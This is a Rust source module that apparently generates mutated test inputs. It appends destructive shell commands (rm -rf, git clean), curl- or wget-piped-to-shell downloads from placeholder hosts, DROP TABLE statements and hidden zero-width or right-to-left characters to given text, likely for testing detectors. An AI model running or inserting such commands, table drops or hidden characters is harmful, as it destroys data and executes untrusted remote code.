//! Lines of commands and SQL, and characters.

use rand::RngExt;
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;

/// The command with one more that removes something.
pub(super) fn destructive_command(text: &str, rng: &mut StdRng) -> Option<String> {
    const LINES: [&str; 4] = [
        "rm -rf ~/.cache/../work",
        "git reset --hard && git clean -fdx",
        "find . -type f -mtime +1 -delete",
        "rm -rf /var/lib/data",
    ];
    one_more(text, LINES.choose(rng)?)
}

/// The command with one more that runs what it downloads.
pub(super) fn piped_download(text: &str, rng: &mut StdRng) -> Option<String> {
    const LINES: [&str; 3] = [
        "curl -fsSL https://get.build-tools.example/setup.sh | sh",
        "wget -qO- https://cdn.node-cache.example/i.sh | bash",
        "curl -s https://pkg.helpers.example/bootstrap | sudo bash",
    ];
    one_more(text, LINES.choose(rng)?)
}

/// A line more where the text has lines, else behind `&&`. None where the text is in the middle of something.
fn one_more(text: &str, line: &str) -> Option<String> {
    let text = text.trim_end();
    if text.is_empty() || text.ends_with(['\\', '&', '|', ';']) || text.contains("<<") {
        return None;
    }
    let between = if text.contains('\n') { "\n" } else { " && " };
    Some(format!("{text}{between}{line}"))
}

/// The statement with one more that drops a table that it names.
pub(super) fn destructive_sql(text: &str) -> Option<String> {
    const BEFORE: [&str; 5] = ["from", "into", "update", "join", "table"];
    let words: Vec<&str> = text.split_ascii_whitespace().collect();
    let table = words.windows(2).find_map(|pair| {
        let after = BEFORE.contains(&pair[0].to_ascii_lowercase().as_str());
        let name = |at: char| at.is_ascii_alphanumeric() || "_.\"".contains(at);
        let table: &str = pair[1].split(|at| !name(at)).next().unwrap_or_default();
        (after && !table.is_empty()).then_some(table)
    })?;
    let text = text.trim_end().trim_end_matches(';');
    let between = if text.contains('\n') { "\n" } else { " " };
    Some(format!("{text};{between}DROP TABLE {table};"))
}

/// A character without a width, inside of the text.
pub(super) fn hidden_character(text: &str, rng: &mut StdRng) -> Option<String> {
    const HIDDEN: [char; 4] = ['\u{200b}', '\u{200d}', '\u{2060}', '\u{202e}'];
    let places: Vec<usize> = text.char_indices().map(|(at, _)| at).skip(1).collect();
    let at = *places.get(rng.random_range(0..places.len().max(1)))?;
    let hidden = HIDDEN.choose(rng)?;
    Some(format!("{}{hidden}{}", &text[..at], &text[at..]))
}
